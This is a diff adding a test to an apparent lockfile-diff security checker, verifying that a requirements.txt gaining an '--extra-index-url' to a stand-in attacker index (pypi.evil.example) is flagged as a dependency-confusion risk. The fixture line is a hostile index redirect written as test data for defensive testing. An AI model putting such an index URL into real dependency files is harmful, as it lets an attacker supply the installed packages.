@@ -33,3 +33,13 @@ describe('lockdiff: a registry package now fetched from another host', () => {
     expect(hostSuspicions(diff)).toEqual(['lodash']);
   });
 });
+
+describe('lockdiff: requirements.txt moved to another package index', () => {
+  // `--extra-index-url` pointing at an attacker's index is the dependency-confusion move for pip:
+  // every pinned package may now come from there, and nothing else in the file changes.
+  it('flags an index URL added since the baseline', () => {
+    const before = parseLockfile('/tmp/a/requirements.txt', 'requests==2.31.0\n');
+    const after = parseLockfile('/tmp/b/requirements.txt', '--extra-index-url https://pypi.evil.example/simple\nrequests==2.31.0\n');
+    expect(diffLockfiles(before, after).suspicions.map((suspicion) => suspicion.kind)).toContain('resolved-host-changed');
+  });
+});
